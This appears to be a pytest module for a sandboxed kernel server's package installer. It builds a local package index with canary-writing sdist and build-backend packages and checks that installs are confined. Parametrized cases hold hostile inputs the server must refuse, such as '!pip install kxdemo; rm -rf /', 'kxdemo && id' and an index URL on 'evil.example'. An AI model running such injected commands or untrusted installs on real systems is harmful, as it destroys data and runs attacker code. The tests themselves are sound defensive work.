"""Packages on demand, against a real package index on 127.0.0.1.

The index is a PEP 503 "simple" tree served by a real HTTP server (``python -m http.server``), with
wheels built in the test from tiny projects, and one sdist-only package whose setup.py would write a
canary file if it ever ran. pip's own configuration is switched off (``PIP_CONFIG_FILE=/dev/null``)
so nothing but that index is asked.
"""

from __future__ import annotations

import os
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest

from .conftest import Harness, clean_env, free_port, kernelexec_cmd, make_settings, serving
from .support import build_sdist, build_wheel, package_index
from .test_environments import need

pytestmark = pytest.mark.anyio

CANARY = Path("/tmp/kernelexec-test-sdist-canary")
BACKEND_CANARY = Path("/tmp/kernelexec-test-backend-canary")


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A real HTTP package index on 127.0.0.1 with kxdemo 1.0/1.1, kxuses (needs kxdep), sdist-only kxsdist, and
    kxevil, a wheel requiring ``evil @ file:///…`` whose in-tree build backend would write a canary."""
    base = tmp_path_factory.mktemp("index")
    wheels = base / "wheels"
    evil = base / "evil"
    evil.mkdir()
    (evil / "pyproject.toml").write_text('[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n')
    (evil / "backend.py").write_text(f"open({str(BACKEND_CANARY)!r}, 'w').write('ran on the host')\n")
    files = [
        build_wheel(wheels, "kxevil", "1.0", "X = 1\n", requires=["kxdep", f"evil @ {evil.as_uri()}"]),
        build_wheel(wheels, "kxdemo", "1.0", "VALUE = 42\n"),
        build_wheel(wheels, "kxdemo", "1.1", "VALUE = 43\n"),
        build_wheel(wheels, "kxdep", "0.1", "DEP = 'dep'\n"),
        build_wheel(wheels, "kxuses", "2.0", "from kxdep import DEP\nUSES = DEP + '!'\n", requires=["kxdep>=0.1"]),
        build_sdist(base, "kxsdist", "1.0", f"open({str(CANARY)!r}, 'w').write('setup.py ran on the host')\n"
                    "from setuptools import setup\nsetup(name='kxsdist', version='1.0')\n"),
    ]
    with package_index(base / "root", files) as url:
        yield url


@pytest.fixture(autouse=True)
def no_pip_config(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)  # only the test's index is asked


@pytest.fixture(scope="module")
async def h(short_tmp: Path, index: str) -> Iterator[Harness]:  # type: ignore[misc]
    with pytest.MonkeyPatch.context() as mp:  # for this module's server only: it must not leak into later modules
        mp.setenv("PIP_CONFIG_FILE", os.devnull)
        async with serving(make_settings(short_tmp, index_url=index, pool_size=0, restart_spares=0)) as harness:
            yield harness


async def test_install_packages_then_import_in_the_same_kernel(h: Harness) -> None:
    s = await h.new_session()
    refused = await h.run("import kxuses", session=s)
    assert refused["error_type"] in ("ImportError", "ModuleNotFoundError")
    done = await h.call("install_packages", packages=["kxuses"], session=s)
    assert not done.is_error, done.content
    info = done.structured_content
    assert {(p["name"], p["version"]) for p in info["installed"]} == {("kxuses", "2.0"), ("kxdep", "0.1")}
    assert all(p["size"] > 0 for p in info["installed"]) and info["duration_ms"] > 0 and "127.0.0.1" in info["index"]
    r = await h.run("import kxuses\nkxuses.USES", session=s)  # no restart
    assert r["result"] == "dep!", r
    nb = nbformat.read(r["notebook"], as_version=4)
    marker = [c for c in nb.cells if c.cell_type == "markdown"][-1]
    assert marker.metadata.kernelexec["event"] == "install" and marker.metadata.kernelexec["specs"] == ["kxuses"]


async def test_pip_lines_in_a_cell_are_served_by_the_same_installer(h: Harness) -> None:
    s = await h.new_session()
    r = await h.run("%pip install kxdemo==1.0\nimport kxdemo\nkxdemo.VALUE", session=s)
    assert r["success"] and r["result"] == 42, r
    assert r["stdout"].startswith("installed kxdemo-1.0")
    quiet = await h.run("!pip install -q -U 'kxdemo>=1.1'\n1", session=s)
    assert quiet["success"] and quiet["stdout"] == "" and "installed kxdemo-1.1" in quiet["notes"][0], quiet
    fresh = await h.call("restart_session", session=s)  # a new kernel imports the upgraded overlay
    assert not fresh.is_error
    assert (await h.run("import kxdemo\nkxdemo.VALUE", session=s))["result"] == 43
    alone = await h.run("pip install kxdep", session=s)
    assert alone["success"] and "installed kxdep-0.1" in alone["stdout"]


@pytest.mark.parametrize("line", [
    "%pip install -r requirements.txt",
    "!pip install kxdemo && touch /tmp/x",
    "%pip install --index-url http://evil.example/simple kxdemo",
    "!pip install -e .",
    "pip install git+https://github.com/x/y",
    "pip install kxdemo @ http://127.0.0.1:1/kxdemo.whl",
    "%pip install ./kxdemo-1.0-py3-none-any.whl",
    "!pip install kxdemo; rm -rf /",
])
async def test_a_pip_line_asking_for_anything_else_is_refused_before_anything_runs(h: Harness, line: str) -> None:
    s = await h.new_session()
    refused = await h.call("execute_code", code=line + "\nran = True", session=s)
    assert refused.is_error
    text = refused.content[0].text
    assert "refused" in text and ("supported" in text or "package name" in text), text
    assert (await h.run("'ran' in dir()", session=s))["result"] is False


@pytest.mark.parametrize("spec", ["https://127.0.0.1/x.whl", "../kxdemo", "git+https://x/y", "kxdemo @ file:///tmp/x",
                                  "evil.tar.gz", "x-1.0-py3-none-any.whl", "x.zip", "setup.py", "requirements.txt",
                                  "--index-url=http://x", "kxdemo; python_version<'4'", "kxdemo && id", "", " ", "a" * 300])
async def test_bad_specs_are_refused(h: Harness, spec: str) -> None:
    refused = await h.call("install_packages", packages=[spec])
    assert refused.is_error and "package name" in refused.content[0].text


async def test_an_sdist_only_package_is_refused_and_its_setup_py_never_runs(h: Harness) -> None:
    CANARY.unlink(missing_ok=True)
    refused = await h.call("install_packages", packages=["kxsdist"])
    assert refused.is_error and "wheels only" in refused.content[0].text and "sdist" in refused.content[0].text
    cell = await h.call("execute_code", code="%pip install kxsdist")
    assert cell.structured_content["error_type"] == "InstallError"
    assert not CANARY.exists()


async def test_a_wheel_requiring_a_direct_reference_is_refused_and_nothing_is_built(h: Harness) -> None:
    """Plain ``pip install --only-binary :all:`` builds ``evil @ file:///…`` on the host (tests/test_wheels.py
    measures it); install_packages refuses the whole install, naming the package and the requirement."""
    BACKEND_CANARY.unlink(missing_ok=True)
    s = await h.new_session()
    refused = await h.call("install_packages", packages=["kxevil"], session=s)
    text = refused.content[0].text
    assert refused.is_error and "kxevil 1.0 requires it as a direct reference (evil @ file://" in text, text
    cell = await h.call("execute_code", code="%pip install kxevil", session=s)
    assert cell.structured_content["error_type"] == "InstallError"
    assert not BACKEND_CANARY.exists()
    assert (await h.run("import kxdep", session=s))["error_type"] in ("ImportError", "ModuleNotFoundError")


async def test_a_package_is_only_importable_in_the_session_that_installed_it(h: Harness, index: str) -> None:
    mine, other = await h.new_session(), await h.new_session()
    await h.call("install_packages", packages=["kxdemo==1.0"], session=mine)
    assert (await h.run("import kxdemo\nkxdemo.VALUE", session=mine))["result"] == 42
    theirs = await h.run("import kxdemo", session=other)
    assert theirs["error_type"] in ("ImportError", "ModuleNotFoundError"), theirs
    # and the kernel still has no network after the install: the index is not reachable from a cell
    offline = await h.run(f"import urllib.request\nurllib.request.urlopen({index!r} + '/', timeout=3)", session=mine)
    assert not offline["success"] and offline["error_type"] in ("URLError", "PermissionError", "OSError", "ImportError"), offline
    # nor can a cell write into its overlay
    planted = await h.run("import kxdemo, os\nopen(os.path.join(os.path.dirname(kxdemo.__file__), 'x.py'), 'w')", session=mine)
    assert not planted["success"] and planted["error_type"] in ("PolicyError", "PermissionError"), planted


async def test_restart_with_replay_keeps_the_installed_packages(h: Harness) -> None:
    s = await h.new_session()
    await h.run("%pip install kxdemo==1.0\nimport kxdemo\nv = kxdemo.VALUE", session=s)
    info = await h.call("restart_session", session=s, replay=True)
    assert info.structured_content["replayed"][0]["ok"], info.structured_content
    assert (await h.run("v", session=s))["result"] == 42


async def test_a_revived_session_keeps_its_installed_packages(short_tmp: Path, index: str) -> None:
    """Revival (like restart_session(replay=true)) rebuilds from the server's own record, installs
    included: kernelexec replay's --install governs only the replay of a notebook file."""
    settings = make_settings(short_tmp, index_url=index, pool_size=0, restart_spares=0)
    async with serving(settings) as first:
        s = await first.new_session()
        r = await first.run("%pip install -q kxdemo==1.0\nimport kxdemo\nv = kxdemo.VALUE", session=s)
        assert r["success"], r
    async with serving(settings) as second:
        r = await second.run("import kxdemo\n[v, kxdemo.VALUE]", session=s)
        assert r["result"] == [42, 42] and "revived after a server restart" in r["restart_reason"], r


async def test_strict_refuses_installs(short_tmp: Path, index: str) -> None:
    async with serving(make_settings(short_tmp, profile="strict", index_url=index, pool_size=0, restart_spares=0)) as strict:
        refused = await strict.call("install_packages", packages=["kxdemo"])
        assert refused.is_error and "off in the 'strict' profile" in refused.content[0].text


async def test_an_allowlist_allows_only_its_names(short_tmp: Path, index: str) -> None:
    settings = make_settings(short_tmp, install_policy="allowlist", install_allow=["kxdemo"], index_url=index,
                             pool_size=0, restart_spares=0)
    async with serving(settings) as listed:
        assert not (await listed.call("install_packages", packages=["kxdemo==1.0"])).is_error
        refused = await listed.call("install_packages", packages=["kxdep"])
        assert refused.is_error and "allowlist" in refused.content[0].text


async def test_an_unreachable_index_fails_within_seconds_naming_it(short_tmp: Path) -> None:
    dead = f"http://127.0.0.1:{free_port()}/simple"
    async with serving(make_settings(short_tmp, index_url=dead, pool_size=0, restart_spares=0)) as offline:
        started = time.monotonic()
        refused = await offline.call("install_packages", packages=["kxdemo"])
        assert time.monotonic() - started < 30
        assert refused.is_error and dead in refused.content[0].text, refused.content[0].text


@pytest.mark.slow
async def test_replay_installs_again_from_the_configured_index(h: Harness, index: str, short_tmp: Path) -> None:
    s = await h.new_session()
    await h.call("install_packages", packages=["kxuses"], session=s)
    await h.run("import kxuses\nkxuses.USES", session=s)
    r = await h.run("%pip install kxdemo==1.0\nimport kxdemo\nkxdemo.VALUE", session=s)
    session_dir = Path(r["notebook"]).parent
    done = subprocess.run(kernelexec_cmd("replay", "--install", "--state-dir", str(short_tmp / "replay-state"), "--index-url", index,
                                         str(session_dir)),
                          env=clean_env(PIP_CONFIG_FILE=os.devnull), capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "2 cells: 2 same, 0 different" in done.stdout, done.stdout


async def test_a_kernel_in_another_interpreter_gets_wheels_for_that_interpreter(
    short_tmp: Path, index: str, overlay_cache: Path
) -> None:
    """kernelexec's own pip picks wheels for that interpreter's tags and markers (pip_commands.Target), without running
    it (tests/test_wheels.py audits that), so what it picks is importable there."""
    python = need("3.13")
    settings = make_settings(short_tmp, python=python, cache_dir=overlay_cache, index_url=index, pool_size=0, restart_spares=0)
    async with serving(settings) as other:
        s = await other.new_session()
        done = await other.call("install_packages", packages=["kxuses"], session=s)
        assert not done.is_error, done.content
        r = await other.run("import sys, kxuses\nresult = [list(sys.version_info[:2]), kxuses.USES]", session=s)
        assert r["result"] == [[3, 13], "dep!"], r
